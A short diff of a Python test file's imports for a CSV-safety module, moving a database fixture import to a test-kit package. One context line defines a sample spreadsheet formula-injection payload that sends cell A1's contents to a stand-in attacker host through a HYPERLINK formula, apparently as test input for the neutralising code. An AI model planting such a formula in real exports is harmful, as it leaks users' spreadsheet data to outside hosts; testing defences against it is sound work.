@@ -15,7 +15,6 @@ import polars as pl
 import pytest
 from fastapi.testclient import TestClient
 
-from databases import fresh_database
 from lawfulreach.api.app import create_app
 from lawfulreach.api.backend import Backend
 from lawfulreach.api.config import ApiConfig
@@ -24,6 +23,7 @@ from lawfulreach.csvsafe import TRIGGERS, neutralise, restore
 from lawfulreach.messaging import MailSettings
 from lawfulreach.store import Subject, Workspace, WorkspaceSettings, add_tenant
 from lawfulreach.store.suppression import Entry
+from lr_testkit import fresh_database
 
 Write = Callable[[str, str], Path]
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
